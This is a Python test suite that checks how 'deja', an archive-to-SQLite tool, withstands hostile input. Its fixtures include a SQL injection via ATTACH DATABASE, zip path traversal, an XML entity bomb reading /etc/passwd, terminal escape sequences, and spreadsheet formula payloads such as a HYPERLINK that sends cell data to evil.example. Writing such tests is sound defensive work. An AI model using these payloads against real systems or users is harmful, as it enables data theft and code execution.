#!/usr/bin/env python3
"""Hostile and unlucky input: a stranger's database and archives, odd names,
outputs that a stranger's text reaches.

One test per class of defect (docs/security.md lists them): each was seen
failing before its fix.  Run by meson (suite 'slow': a zip of 1,200 members, a
news spool, a tmpfs).
"""
import csv
import io
import json
import os
import sqlite3
import subprocess
import threading
import zipfile

import tap
from cli_helpers import FIXTURES, SAMPLE, TMP, WITHOUT, deja, fresh_db, ok, tmp


def message(n, sender="A <a@x.example>", headers="", body="body"):
    return ("From a@b Mon Jan  1 10:00:00 2001\nFrom: %s\nSubject: s %s\nMessage-ID: <%s@x>\n"
            "Date: Mon, 1 Jan 2001 10:00:00 +0000\n%s\n%s\n\n"
            % (sender, n, n, headers + "\n" if headers else "", body))


def write(name, text, mode="w", encoding=None):
    path = tmp(name)
    with open(path, mode, encoding=encoding) as f:
        f.write(text)
    return path


def sample_db(name):
    db = fresh_db(name)
    ok("ingest", "-q", "--db", db, SAMPLE)
    return db


def refused(db, fragment):
    r = deja("stats", "--db", db)
    assert r.returncode == 1, (r.returncode, r.stdout, r.stderr)
    assert "cannot open" in r.stderr and fragment in r.stderr, r.stderr
    r = deja("ingest", "-q", "--db", db, SAMPLE)
    assert r.returncode != 0 and fragment in r.stderr, r.stderr


# -- a stranger's database ---------------------------------------------------

@tap.test
def a_view_or_trigger_deja_did_not_make_is_refused():
    db = sample_db("view.db")
    with sqlite3.connect(db) as c:
        c.execute("CREATE VIEW mine AS SELECT 1")
    refused(db, "view 'mine' that deja did not make")
    with sqlite3.connect(db) as c:
        c.execute("DROP VIEW mine")
        # one of deja's views, defined otherwise
        c.execute("DROP VIEW replies")
        c.execute("CREATE VIEW replies AS SELECT * FROM messages")
    refused(db, "view 'replies'")
    db = sample_db("trigger.db")
    with sqlite3.connect(db) as c:
        c.execute("CREATE TABLE seen (x)")
        c.execute("CREATE TRIGGER spy AFTER INSERT ON messages BEGIN INSERT INTO seen VALUES (1); END")
    refused(db, "trigger 'spy'")
    # a table of one's own is not deja's business, and stays readable
    db = sample_db("own-table.db")
    with sqlite3.connect(db) as c:
        c.execute("CREATE TABLE notes (message_id INTEGER, note TEXT)")
    ok("stats", "--db", db)


@tap.test
def stored_sql_is_never_executed():
    db = sample_db("state.db")
    pwn = tmp("pwn.db")
    with sqlite3.connect(db) as c:
        c.execute("DROP INDEX messages_date")
        # what an older deja kept (the statements), with a stranger's line
        c.execute("INSERT INTO deja_state (key, value) VALUES ('deferred_indexes', ?)",
                  ("CREATE INDEX messages_date ON messages (date);\n"
                   "ATTACH DATABASE '%s' AS pwn; CREATE TABLE pwn.t (x);\n"
                   "CREATE INDEX evil ON messages (subject);" % pwn,))
    ok("stats", "--db", db)
    assert not os.path.exists(pwn)
    with sqlite3.connect(db) as c:
        indexes = dict(c.execute("SELECT name, sql FROM sqlite_schema WHERE type = 'index'"))
        assert c.execute("SELECT count(*) FROM deja_state WHERE key = 'deferred_indexes'").fetchone()[0] == 0
    assert indexes["messages_date"] == "CREATE INDEX messages_date ON messages (date)"
    assert "evil" not in indexes


@tap.test
def own_text_reads_the_same_with_an_untrusted_schema():
    # deja's connections overload json_extract/json_array_length (innocuous,
    # for trusted_schema off): the generated own_text must read exactly as
    # SQLite's own functions compute it, on every row of every fixture
    db = fresh_db("own-text.db")
    r = deja("ingest", "-q", "--db", db, FIXTURES)
    assert r.returncode in (0, 1), r.stderr
    out = ok("export", "-q", "--db", db, "--duplicates", "--fields", "id,own_text", "--format", "jsonl").stdout
    ours = {row["id"]: row["own_text"] for row in map(json.loads, out.splitlines())}
    with sqlite3.connect(db) as c:
        theirs = dict(c.execute("SELECT id, own_text FROM messages"))
        spans = c.execute("SELECT count(*) FROM messages WHERE own_spans IS NOT NULL").fetchone()[0]
    assert len(ours) > 150 and spans > 100, (len(ours), len(theirs), spans)
    assert ours == {i: theirs[i] for i in ours}
    # own_spans that are not deja's: own_text is NULL, not a failed statement
    with sqlite3.connect(db) as c:
        c.execute("UPDATE messages SET own_spans = '[1, \"x\"]' WHERE id = 1")
        c.execute("UPDATE messages SET own_spans = '{\"a\": 1}' WHERE id = 2")
    out = ok("export", "-q", "--db", db, "--duplicates", "--fields", "id,own_text", "--format", "jsonl").stdout
    rows = {row["id"]: row["own_text"] for row in map(json.loads, out.splitlines())}
    assert rows[1] is None and rows[2] is None and rows[3] == theirs[3]


@tap.test
def two_ingests_creating_one_database_both_succeed():
    """Each opening reads the file's identity in one snapshot: reads on
    either side of the other's commit saw tables without deja's mark (2 in
    150 such pairs failed; 30 pairs make that show)."""
    a = write("race-a.mbox", message("ra"))
    b = write("race-b.mbox", message("rb"))
    for trial in range(30):
        db = fresh_db("race.db")
        env = dict(os.environ, DEJA_NO_PROGRESS="1")
        procs = [subprocess.Popen([os.environ["DEJA"], "ingest", "-q", "--db", db, f],
                                  stderr=subprocess.PIPE, text=True, env=env) for f in (a, b)]
        errors = [p.communicate()[1] for p in procs]
        assert [p.returncode for p in procs] == [0, 0], errors
        with sqlite3.connect(db) as c:
            assert c.execute("SELECT count(*) FROM messages").fetchone()[0] == 2


# -- archives: members stay inside, each is read, in linear time -------------

@tap.test
def a_zip_member_never_replaces_another_file():
    d = tmp("zip-escape")
    os.makedirs(d, exist_ok=True)
    real = os.path.join(d, "b.mbox")
    with open(real, "w") as f:
        f.write(message("real1") + message("real2"))
    z = os.path.join(d, "a.zip")
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("../b.mbox", message("dotdot"))
        zf.writestr("/abs/c.mbox", message("absolute"))
        zf.writestr("./x/../../d.mbox", message("dots"))
    db = fresh_db("zip-escape.db")
    ok("ingest", "-q", "--db", db, real, z)
    with sqlite3.connect(db) as c:
        files = dict(c.execute("SELECT path, messages FROM files"))
        ids = sorted(r[0] for r in c.execute("SELECT message_id FROM messages"))
    assert files == {real: 2, z + "/b.mbox": 1, z + "/abs/c.mbox": 1, z + "/x/d.mbox": 1}, files
    assert ids == ["absolute@x", "dotdot@x", "dots@x", "real1@x", "real2@x"], ids


@tap.test
def zip_members_of_one_name_are_all_read():
    z = tmp("same-name.zip")
    with zipfile.ZipFile(z, "w") as zf:
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            for n in ("first", "second", "third"):
                zf.writestr("a.mbox", message(n))
    db = fresh_db("same-name.db")
    ok("ingest", "-q", "--db", db, z)
    with sqlite3.connect(db) as c:
        rows = c.execute("SELECT f.path, m.message_id FROM messages m JOIN files f ON f.id = m.file_id"
                         " ORDER BY f.path").fetchall()
    assert rows == [(z + "/a.mbox", "first@x"), (z + "/a.mbox;2", "second@x"),
                    (z + "/a.mbox;3", "third@x")], rows
    # scan reads them too
    r = ok("scan", z)
    assert r.stdout.count(z + "/a.mbox") == 3, r.stdout


@tap.test
def a_zip_of_many_members_is_read_once():
    # each member used to read the archive from its start: 500, 1,000 and
    # 2,000 members took 2.1, 6.5 and 23.9 s.  Six times the members must
    # take about six times as long (a ratio, not a time: the sanitizers and
    # a busy machine slow both alike), where n² made it 36 times.
    import time
    took = []
    for n in (200, 1200):
        z = tmp("many-%d.zip" % n)
        with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
            for i in range(n):
                zf.writestr("g/m%04d.mbox" % i, message("z%d" % i))
        db = fresh_db("many-%d.db" % n)
        t = time.monotonic()
        ok("ingest", "-q", "--db", db, z)
        took.append(time.monotonic() - t)
        with sqlite3.connect(db) as c:
            assert c.execute("SELECT count(*) FROM messages").fetchone()[0] == n
    assert took[1] < 15 * took[0], took


# -- a pseudonymised run names nobody ----------------------------------------

FIELDS = ("id,file,file_sha256,byte_offset,byte_length,line_no,envelope,message_id,date,date_raw,"
          "from_addr,from_name,author_id,subject,newsgroups,in_reply_to,references,thread_id,"
          "parent_id,duplicate_of,charset,flags,quoted_lines,own_lines,attachment_count,body,"
          "own_text,author,lang,lang_reliable,words,sentences,code_lines,nonletter_share,"
          "digit_share,upper_share,oov_share,near_duplicate_of")

MUNGED = ("A: john (at) example (dot) com\nB: john at example dot com\n"
          "C: john [at] example [dot] com\nD: \"john smith\"@example.com\nE: john@[192.0.2.1]\n"
          "F: JOHN AT EXAMPLE DOT COM\nG: john{at}example{dot}com\nH: john_at_example_dot_com\n"
          "I: john <at> example <dot> com\nJ: john @ example.com")


@tap.test
def a_pseudonymised_run_names_nobody():
    mbox = write("people.mbox", open(SAMPLE, encoding="latin-1").read() +
                 message("munged", "John Smith <john.smith@univ.example>", body=MUNGED),
                 encoding="latin-1")
    db = fresh_db("people.db")
    ok("ingest", "-q", "--db", db, mbox)
    key = tmp("people.key")
    if not os.path.exists(key):
        ok("keygen", key)
    with sqlite3.connect(db) as c:
        addresses = {a for (a,) in c.execute("SELECT address FROM author_addresses UNION"
                                              " SELECT from_addr FROM messages WHERE from_addr IS NOT NULL")}
        names = {n for (n,) in c.execute("SELECT name FROM authors UNION SELECT from_name FROM messages"
                                          " WHERE from_name IS NOT NULL") if n and len(n) > 3}
    assert "john.smith@univ.example" in addresses and len(addresses) >= 5, addresses
    outputs = []
    for fmt in ("csv", "jsonl", "tsv"):
        out = tmp("people-export." + fmt)
        ok("export", "-q", "--db", db, "--pseudonymise", key, "--fields", FIELDS, "--format", fmt,
           "--author", "john.smith@univ.example", "--out", out, "--statement", out + ".md")
        outputs += [out, out + ".md"]
        if fmt == "csv":
            rows = list(csv.DictReader(open(out, newline="")))
            assert len(rows) == 1 and rows[0]["body"].count("[address]") == 10, rows[0]["body"]
    for fmt in ("graphml", "gexf", "gml", "pajek", "csv", "json"):
        out = tmp("people-net." + fmt)
        ok("network", "-q", "--db", db, "--pseudonymise", key, "--format", fmt, "--out", out,
           "--statement", out + ".md", "-a", "john.smith@univ.example", "-a", "nobody@else.example")
        outputs += [p for p in (out, out + ".md", out + ".nodes.csv", out + ".edges.csv",
                                tmp("people-net.nodes.csv"), tmp("people-net.edges.csv"))
                    if os.path.exists(p)]
    stats = tmp("people-stats.txt")
    with open(stats, "w") as f:
        f.write(ok("stats", "--db", db, "--pseudonymise", key, "--format", "json").stdout)
    outputs.append(stats)
    for path in outputs:
        text = open(path, encoding="utf-8", errors="replace").read().lower()
        for address in addresses:
            assert address.lower() not in text, (path, address)
        if path.endswith((".md", ".graphml", ".gexf", ".gml", ".net", ".csv", ".json", ".txt")) \
                and "export" not in path:
            for name in names:
                assert name.lower() not in text, (path, name)


# -- every command on a selection without replies ----------------------------

@tap.test
def edgeless_corpora_make_every_output():
    db = fresh_db("edgeless.db")
    ok("ingest", "-q", "--db", db, write("edgeless.mbox", message("e1") + message("e2", "B <b@x.example>")))
    ok("report", "--db", db, "--out", tmp("edgeless.html"))
    if "cairo" not in WITHOUT:
        ok("plot", "--db", db, "network", "--out", tmp("edgeless.svg"))
    stats = json.loads(ok("network", "--db", db, "--stats", "--format", "json").stdout)
    assert stats["vertices"] == 2 and stats["edges"] == 0 and stats["communities"] == 2, stats
    assert stats["density"] == 0 and stats["reciprocity"] is None, stats
    for fmt in ("graphml", "gexf", "gml", "pajek", "csv"):
        ok("network", "-q", "--db", db, "--with-metrics", "--format", fmt, "--out", tmp("edgeless." + fmt))
    # nothing selected at all: valid JSON, no NaN
    empty = ok("network", "--db", db, "--stats", "--format", "json", "-a", "nobody@nowhere.example").stdout
    assert json.loads(empty)["vertices"] == 0, empty


# -- what a stranger's text reaches is escaped for its reader ----------------

@tap.test
def xml_holds_no_character_xml_forbids():
    import xml.etree.ElementTree as ET
    db = fresh_db("xml.db")
    ok("ingest", "-q", "--db", db, write("xml.mbox", message("x1", "Ctl\x01One\x1b[31m <a@x.example>") +
                                          message("x2", "Non\ufffeChar\uffff <b@x.example>",
                                                  "In-Reply-To: <x1@x>")))
    for fmt in ("graphml", "gexf"):
        out = tmp("xml." + fmt)
        ok("network", "-q", "--db", db, "--format", fmt, "--out", out, "--with-metrics")
        names = [e.text for e in ET.parse(out).iter() if e.text and ("One" in e.text or "Char" in e.text)]
        names += [v for e in ET.parse(out).iter() for v in e.attrib.values() if "One" in v or "Char" in v]
        assert any("Ctl\ufffdOne" in n for n in names), names
        assert any("Non\ufffdChar\ufffd" in n for n in names), names


@tap.test
def file_names_that_are_not_utf8_are_written_validly():
    d = tmp("bad-names")
    os.makedirs(d, exist_ok=True)
    raw = os.path.join(os.fsencode(d), b"bad\xff\x1b[2J.mbox")
    with open(raw, "wb") as f:
        f.write(message("bn").encode())
    db = fresh_db("bad-names.db")
    r = deja("ingest", "--db", db, d)
    assert r.returncode == 0 and "\x1b" not in r.stderr and "^[[2J" in r.stderr, r.stderr
    with sqlite3.connect(db) as c:
        c.text_factory = bytes
        assert c.execute("SELECT path FROM files").fetchone()[0] == raw   # stored losslessly
    for fmt in ("jsonl", "json", "csv", "tsv"):
        out = ok("export", "-q", "--db", db, "--fields", "id,file", "--format", fmt).stdout
        assert "bad\ufffd\x1b[2J.mbox" in out or "bad\ufffd\\u001b[2J.mbox" in out, (fmt, out)
    for line in ok("export", "-q", "--db", db, "--fields", "id,file", "--format", "jsonl").stdout.splitlines():
        json.loads(line)
    json.loads(ok("stats", "--db", db, "--format", "json").stdout)
    sql = tmp("bad-names.sql")
    ok("export-pg", "-q", "--db", db, "--out", sql)
    open(sql, encoding="utf-8").read()       # valid UTF-8 throughout
    ok("report", "--db", db, "--out", tmp("bad-names.html"))
    open(tmp("bad-names.html"), encoding="utf-8").read()


@tap.test
def export_pg_partition_names_never_collide():
    import re
    db = fresh_db("parts.db")
    text = "".join(message("p%d" % i, headers="Newsgroups: %s" % g)
                   for i, g in enumerate(["other.misc", "comp.lang", "comp-later.x", "other", "Other.x"]))
    ok("ingest", "-q", "--db", db, write("parts.mbox", text))
    sql = tmp("parts.sql")
    ok("export-pg", "-q", "--db", db, "--out", sql)
    names = re.findall(r"^CREATE TABLE (\S+)", open(sql).read(), re.M)
    assert len(names) == len(set(names)) and len(names) > 8, names


@tap.test
def a_query_with_no_word_is_refused():
    db = sample_db("query.db")
    for q in ('"', "*", "?", "-", '" "', "()"):
        r = deja("search", "--db", db, "--count", q)
        assert r.returncode == 2 and "no word to search" in r.stderr, (q, r.returncode, r.stdout, r.stderr)
        r = deja("export", "-q", "--db", db, "--match", q, "--fields", "id")
        assert r.returncode == 2 and r.stdout == "", (q, r.stdout)


@tap.test
def no_escape_sequence_reaches_a_terminal():
    db = fresh_db("esc.db")
    ok("ingest", "-q", "--db", db, write("esc.mbox", message(
        "esc", "Eve\x1b]0;PWNED\x07 <e@x.example>",
        body="body \x1b[2J\x1b[31mred\x9b31m\rhidden")))
    outputs = [ok("show", "--db", db, "1").stdout,
               ok("show", "--db", db, "--thread", "1").stdout,
               ok("search", "--db", db, "body").stdout,
               ok("authors", "--db", db).stdout,
               ok("stats", "--db", db).stdout,
               ok("export", "-q", "--db", db, "--fields", "id,from_name,body", "--format", "json").stdout]
    for out in outputs:
        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out, repr(out)
    assert "Eve^[]0;PWNED^G" in outputs[0] and "^[[2J^[[31mred" in outputs[0], outputs[0]
    assert "^Mhidden" in outputs[0], outputs[0]


@tap.test
def csv_for_spreadsheets_runs_no_formula():
    db = fresh_db("formula.db")
    ok("ingest", "-q", "--db", db, write("formula.mbox", message(
        "f", "=cmd|' /C calc'!A0 <f@x.example>", headers="X-X: y").replace(
        "Subject: s f", 'Subject: =HYPERLINK("http://evil.example/?"&A1,"click")')))
    plain = ok("export", "-q", "--db", db, "--fields", "id,subject,from_name,byte_offset",
               "--format", "csv").stdout
    row = list(csv.reader(io.StringIO(plain)))[1]
    assert row[1].startswith("=HYPERLINK"), row          # exact data by default
    for args, env in ((["--spreadsheet-safe"], {}), ([], {"DEJA_SPREADSHEET_SAFE": "1"})):
        r = subprocess.run([os.environ["DEJA"]] + args + ["export", "-q", "--db", db, "--fields",
                           "id,subject,from_name,byte_offset", "--format", "csv"],
                           capture_output=True, text=True, env=dict(os.environ, DEJA_NO_PROGRESS="1", **env))
        row = list(csv.reader(io.StringIO(r.stdout)))[1]
        assert row[1].startswith("'=HYPERLINK") and row[2].startswith("'=cmd"), row
        assert row[0] == "1" and row[3] == "0", row   # numbers stay numbers


# -- an unlucky machine: full disk, links ------------------------------------

@tap.test
def a_failed_final_commit_is_not_reported_as_stored():
    if os.geteuid() != 0:
        tap.skip("mounting a small tmpfs needs root")
    small = tmp("small")
    os.makedirs(small, exist_ok=True)
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=6m", "tmpfs", small],
                      capture_output=True).returncode != 0:
        tap.skip("this machine does not let the test mount a tmpfs")
    try:
        mbox = write("full.mbox", "".join(
            "From a@b Mon Jan  1 10:00:00 2001\nFrom: u%d <u%d@x.example>\nSubject: s%d\n"
            "Message-ID: <m%d@x>\n\nbody number %d with some words\n\n" % (i % 500, i % 500, i, i, i)
            for i in range(60000)))
        db = os.path.join(small, "s.db")
        r = deja("ingest", "--db", db, mbox)
        assert r.returncode == 1, (r.returncode, r.stderr)
        assert "database or disk is full" in r.stderr, r.stderr
        assert "(60000 messages) is not stored" in r.stderr, r.stderr
        assert "done in" in r.stderr and "0 files stored, 0 messages" in r.stderr, r.stderr
        c = sqlite3.connect(db)
        try:
            assert c.execute("SELECT count(*) FROM messages").fetchone()[0] == 0
        finally:
            c.close()   # an open connection keeps the tmpfs busy
    finally:
        # A mount left behind outlives the test's directory: say so
        r = subprocess.run(["umount", small], capture_output=True, text=True)
        assert r.returncode == 0, "cannot unmount %s: %s" % (small, r.stderr)


@tap.test
def links_in_a_directory_are_followed_or_named():
    d = tmp("links")
    os.makedirs(os.path.join(d, "dir", "sub"), exist_ok=True)
    real = write("links-real.mbox", message("linked"))
    for name, target in (("dir/link.mbox", real), ("dir/broken.mbox", "/nonexistent/x.mbox"),
                         ("dir/sub/loop", "..")):
        path = os.path.join(d, name)
        if not os.path.lexists(path):
            os.symlink(target, path)
    db = fresh_db("links.db")
    r = deja("ingest", "--db", db, os.path.join(d, "dir"))
    assert r.returncode == 1, (r.returncode, r.stderr)
    assert "broken.mbox': a symbolic link to nothing" in r.stderr, r.stderr
    with sqlite3.connect(db) as c:
        assert [p for (p,) in c.execute("SELECT path FROM files")] == [os.path.join(d, "dir", "link.mbox")]


# -- what held up before (hostile-inputs.md), kept so ------------------------

@tap.test
def fts_syntax_fragments_never_crash():
    db = sample_db("fts.db")
    for q in ("a" * 10000, " OR ".join(["x"] * 5000), "(" * 3000 + "x" + ")" * 3000,
              'NEAR(a b', "a AND", '"unclosed', "subject:", "x*" * 2000, "^a", "a:b:c"):
        r = deja("search", "--db", db, "--count", q)
        assert r.returncode in (0, 2), (q[:40], r.returncode, r.stderr[-300:])


@tap.test
def nested_mime_entity_bombs_and_external_entities_are_data():
    depth = 20000
    nested = "".join("Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i) for i in range(depth))
    bomb = ('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
            '<!ENTITY e SYSTEM "file:///etc/passwd">]><html><body>&d;&d;&d; &e; tail</body></html>')
    db = fresh_db("bombs.db")
    ok("ingest", "-q", "--db", db, write("bombs.mbox",
       message("nest", headers="MIME-Version: 1.0\n" + nested.rstrip("\n").split("\n\n", 1)[0],
               body=nested.split("\n\n", 1)[1] + "deep text\n") +
       message("bomb", headers="Content-Type: text/html", body=bomb)))
    with sqlite3.connect(db) as c:
        bodies = dict(c.execute("SELECT message_id, body FROM messages"))
    assert "root:" not in bodies["bomb@x"] and len(bodies["bomb@x"]) < 100000, bodies["bomb@x"][:200]


@tap.test
def odd_files_in_a_directory():
    d = tmp("odd")
    os.makedirs(d, exist_ok=True)
    fifo = os.path.join(d, "pipe.mbox")
    if not os.path.exists(fifo):
        os.mkfifo(fifo)
    with open(os.path.join(d, "new\nline.mbox"), "w") as f:
        f.write(message("nl"))
    loop = os.path.join(d, "loop")
    if not os.path.lexists(loop):
        os.symlink(".", loop)
    db = fresh_db("odd.db")
    r = deja("ingest", "--db", db, d)
    assert r.returncode in (0, 1) and "nl@x" not in r.stderr, r.stderr
    with sqlite3.connect(db) as c:
        assert c.execute("SELECT count(*) FROM messages").fetchone()[0] == 1
    out = ok("export", "-q", "--db", db, "--fields", "id,file", "--format", "jsonl").stdout
    assert json.loads(out)["file"].endswith("new\nline.mbox")


@tap.test
def keygen_is_private_and_never_overwrites():
    key = tmp("private.key")
    old = os.umask(0)
    try:
        ok("keygen", key)
    finally:
        os.umask(old)
    assert os.stat(key).st_mode & 0o777 == 0o600
    r = deja("keygen", key)
    assert r.returncode != 0
    link = tmp("link.key")
    if not os.path.lexists(link):
        os.symlink(tmp("elsewhere.key"), link)
    assert deja("keygen", link).returncode != 0 and not os.path.exists(tmp("elsewhere.key"))


@tap.test
def damaged_databases_are_clear_errors():
    db = sample_db("flipped.db")
    data = bytearray(open(db, "rb").read())
    for cut, name in ((len(data) // 2, "truncated.db"), (None, "flipped2.db")):
        path = tmp(name)
        if cut is not None:
            open(path, "wb").write(data[:cut])
        else:
            flipped = bytearray(data)
            for i in range(4096, len(flipped), 997):
                flipped[i] ^= 0xFF
            open(path, "wb").write(flipped)
        for args in (["stats", "--db", path], ["search", "--db", path, "pointer"],
                     ["ingest", "-q", "--db", path, SAMPLE]):
            r = deja(*args)
            assert r.returncode in (0, 1), (name, args, r.returncode, r.stderr)
            assert r.returncode == 0 or r.stderr.startswith("deja: "), (name, args, r.stderr)


if __name__ == "__main__":
    tap.main(TMP)
